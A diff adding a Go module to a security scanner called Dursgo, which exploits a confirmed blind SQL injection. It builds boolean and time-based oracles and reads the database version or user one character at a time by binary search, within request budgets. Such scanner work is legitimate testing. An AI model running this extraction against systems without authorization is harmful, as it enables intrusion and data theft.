@@ -0,0 +1,250 @@
+package sqli
+
+import (
+	"Dursgo/internal/crawler"
+	"Dursgo/internal/httpclient"
+	"Dursgo/internal/logger"
+	"Dursgo/internal/payloads"
+	"Dursgo/internal/scanner"
+	"Dursgo/internal/scanner/compare"
+	"Dursgo/internal/scanner/requtil"
+	"Dursgo/internal/scanner/timing"
+	"context"
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// Proof values readable with the poc_value option.
+const (
+	proofVersion = "version"
+	proofUser    = "user"
+)
+
+// Limits of the proof extraction, the defaults of the poc_max_chars and poc_max_requests
+// options. Each character takes 7 requests.
+const (
+	defaultProofChars    = 20
+	defaultProofRequests = 160
+)
+
+// errProofBudget stops an extraction once poc_max_requests requests were sent.
+var errProofBudget = errors.New("request budget spent")
+
+// falseConditions are the false conditions of the boolean-based payloads, each with the
+// extraction payload replacing it: the condition to test, followed by a true condition when the
+// query closes a quote after the injected value.
+var falseConditions = []struct{ condition, replacement string }{
+	{`'1'='2`, `{CONDITION} AND '1'='1`},
+	{`"1"="2`, `{CONDITION} AND "1"="1`},
+	{`1=2`, `{CONDITION}`},
+}
+
+// blindOracle answers conditions through a confirmed blind injection, with the technique and
+// payload structure of the finding. Its payload holds a {CONDITION} placeholder.
+type blindOracle struct {
+	Technique string // "boolean" or "time".
+	DBMS      string // Backend of the finding; empty when unknown.
+	Payload   string
+	// test sends the original value of the parameter followed by payload with client and
+	// reports whether the response shows the condition held. It is nil when the payload of the
+	// finding has no structure conditions fit in.
+	test func(client *httpclient.Client, payload string) (bool, error)
+}
+
+// booleanOracle returns the oracle of a boolean-based finding confirmed with test: conditions
+// replace the false condition of test.FalsePayload, and hold when the response stays similar to
+// originalBody. Payloads without a recognized condition (e.g., string concatenation) get an
+// oracle without test.
+func booleanOracle(ctx context.Context, req crawler.ParameterizedRequest, paramName string, test payloads.BooleanSQLiTest, dbms, originalBody string, cmp compare.Comparator) blindOracle {
+	for _, f := range falseConditions {
+		if !strings.Contains(test.FalsePayload, f.condition) {
+			continue
+		}
+		oracle := blindOracle{Technique: techniqueBoolean, DBMS: dbms, Payload: strings.Replace(test.FalsePayload, f.condition, f.replacement, 1)}
+		oracle.test = func(client *httpclient.Client, payload string) (bool, error) {
+			params, err := requtil.Params(req)
+			if err != nil {
+				return false, err
+			}
+			params.Set(paramName, params.Get(paramName)+payload)
+			_, body, err := requtil.Send(ctx, req, client, params)
+			if err != nil {
+				return false, err
+			}
+			return !cmp.IsDifferent(originalBody, body), nil
+		}
+		return oracle
+	}
+	return blindOracle{}
+}
+
+// timeOracle returns the oracle of a time-based finding confirmed with test: the sleep call of
+// its template is only made when the condition holds, with the first delay of plan, and
+// the condition holds when the response is delayed as in the confirmation. Templates without a
+// known sleep call get an oracle without test.
+func timeOracle(ctx context.Context, req crawler.ParameterizedRequest, paramName string, test payloads.TimeBasedSQLiTest, baseline timing.Baseline, plan timing.Plan) blindOracle {
+	for _, extraction := range payloads.SQLiExtractions {
+		if (test.DBMS != "" && extraction.DBMS != test.DBMS) || !strings.Contains(test.PayloadTemplate, extraction.Sleep) {
+			continue
+		}
+		delay := plan.Delays[0]
+		payload := strings.Replace(test.PayloadTemplate, extraction.Sleep, extraction.ConditionalSleep, 1)
+		oracle := blindOracle{Technique: techniqueTime, DBMS: extraction.DBMS, Payload: strings.ReplaceAll(payload, "{DELAY}", strconv.Itoa(delay))}
+		oracle.test = func(client *httpclient.Client, payload string) (bool, error) {
+			params, err := requtil.Params(req)
+			if err != nil {
+				return false, err
+			}
+			params.Set(paramName, params.Get(paramName)+payload)
+			duration, _, err := requtil.Measure(ctx, req, client, params)
+			if err != nil {
+				return false, err
+			}
+			return duration > baseline.Threshold && duration-baseline.Mean >= time.Duration(delay)*time.Second-plan.Tolerance, nil
+		}
+		return oracle
+	}
+	return blindOracle{}
+}
+
+// proof is a value read from the database by extractProof.
+type proof struct {
+	Name     string // "version" or "user".
+	DBMS     string
+	Value    string
+	Complete bool // The whole value was read, within poc_max_chars and poc_max_requests.
+	Requests int
+}
+
+// extractProof reads the database version or current user (value) through oracle, one
+// character at a time with a binary search over its code, up to maxChars characters. It sends
+// at most maxRequests requests and stops as soon as they are spent, returning what it read. The
+// oracle must first answer a true and a false condition correctly.
+func extractProof(client *httpclient.Client, oracle blindOracle, value string, maxChars, maxRequests int) (proof, error) {
+	result := proof{Name: value, DBMS: oracle.DBMS}
+	ask := func(condition string) (bool, error) {
+		if result.Requests >= maxRequests {
+			return false, errProofBudget
+		}
+		result.Requests++
+		return oracle.test(client, strings.Replace(oracle.Payload, "{CONDITION}", "("+condition+")", 1))
+	}
+
+	for _, check := range []struct {
+		condition string
+		want      bool
+	}{{"1=1", true}, {"1=2", false}} {
+		held, err := ask(check.condition)
+		if err != nil {
+			return result, err
+		}
+		if held != check.want {
+			return result, fmt.Errorf("the injection did not answer the condition %s as expected", check.condition)
+		}
+	}
+
+	charCode := func(extraction payloads.SQLiExtraction, expr string, pos, code int) string {
+		return strings.NewReplacer("{EXPR}", expr, "{POS}", strconv.Itoa(pos), "{CODE}", strconv.Itoa(code)).Replace(extraction.CharCode)
+	}
+	expression := func(extraction payloads.SQLiExtraction) string {
+		if value == proofUser {
+			return extraction.User
+		}
+		return extraction.Version
+	}
+	extraction, known := payloads.SQLiExtractionForDBMS(oracle.DBMS)
+	if !known {
+		// The first DBMS whose syntax reads a first character of the value is the backend.
+		for _, candidate := range payloads.SQLiExtractions {
+			if expression(candidate) == "" {
+				continue
+			}
+			held, err := ask(charCode(candidate, expression(candidate), 1, 0))
+			if err != nil {
+				return result, err
+			}
+			if held {
+				extraction, known = candidate, true
+				break
+			}
+		}
+		if !known {
+			return result, errors.New("the backend did not answer the extraction syntax of any known DBMS")
+		}
+		result.DBMS = extraction.DBMS
+	}
+	expr := expression(extraction)
+	if expr == "" {
+		return result, fmt.Errorf("%s has no database %s", extraction.DBMS, value)
+	}
+
+	var read strings.Builder
+	for pos := 1; pos <= maxChars; pos++ {
+		low, high := 0, 127
+		for low < high {
+			mid := (low + high) / 2
+			held, err := ask(charCode(extraction, expr, pos, mid))
+			if err != nil {
+				result.Value = read.String()
+				return result, err
+			}
+			if held {
+				low = mid + 1
+			} else {
+				high = mid
+			}
+		}
+		if low == 0 { // Past the end of the value.
+			result.Value, result.Complete = read.String(), true
+			return result, nil
+		}
+		if low < 32 || low == 127 {
+			low = '?' // Not printable, or outside ASCII.
+		}
+		read.WriteByte(byte(low))
+	}
+	result.Value = read.String()
+	return result, nil
+}
+
+// exploit reads a proof value through the confirmed blind injection of vuln (-poc-extraction):
+// the value of the poc_value option, within poc_max_chars characters and poc_max_requests
+// requests, sent with client rather than the budgeted client of the parameter. The value is
+// added to the evidence, and the finding is marked as actively exploited whether the
+// extraction succeeded or not.
+func (s *SQLiScanner) exploit(client *httpclient.Client, log *logger.Logger, opts scanner.ScannerOptions, vuln *scanner.VulnerabilityResult, oracle blindOracle) {
+	if oracle.test == nil {
+		log.Info("SQLi (PoC Extraction): The payload of the finding in '%s' cannot carry extraction conditions; nothing extracted.", vuln.Parameter)
+		return
+	}
+	value := opts.StringOption(ModuleName, "poc_value", proofVersion)
+	maxChars := opts.IntOption(ModuleName, "poc_max_chars", defaultProofChars)
+	maxRequests := opts.IntOption(ModuleName, "poc_max_requests", defaultProofRequests)
+	log.Warn("SQLi (PoC Extraction): Actively exploiting the %s-based injection in '%s' to read the database %s (at most %d characters, %d requests).", oracle.Technique, vuln.Parameter, value, maxChars, maxRequests)
+
+	result, err := extractProof(client, oracle, value, maxChars, maxRequests)
+	if result.Value == "" {
+		if err == nil {
+			err = errors.New("the value is empty")
+		}
+		log.Warn("SQLi (PoC Extraction): Could not read the database %s through '%s' after %d request(s): %v", value, vuln.Parameter, result.Requests, err)
+		vuln.ActiveExploitation = fmt.Sprintf("PoC extraction of the database %s through the %s-based injection failed after %d request(s): %v.", value, oracle.Technique, result.Requests, err)
+		return
+	}
+	extent := "complete"
+	switch {
+	case errors.Is(err, errProofBudget):
+		extent = fmt.Sprintf("first %d character(s), request budget spent", len(result.Value))
+	case err != nil:
+		extent = fmt.Sprintf("first %d character(s), stopped: %v", len(result.Value), err)
+	case !result.Complete:
+		extent = fmt.Sprintf("first %d character(s)", len(result.Value))
+	}
+	log.Success("SQLi (PoC Extraction): Read the database %s through '%s': %q (%s, %d requests)", value, vuln.Parameter, result.Value, extent, result.Requests)
+	vuln.Evidence += fmt.Sprintf("; Extracted %s %s: %q (%s)", result.DBMS, value, result.Value, extent)
+	vuln.ActiveExploitation = fmt.Sprintf("PoC extraction: the database %s was read through the %s-based injection, one character at a time, with %d request(s).", value, oracle.Technique, result.Requests)
+	vuln.Confidence = scanner.ConfidenceCertain
+}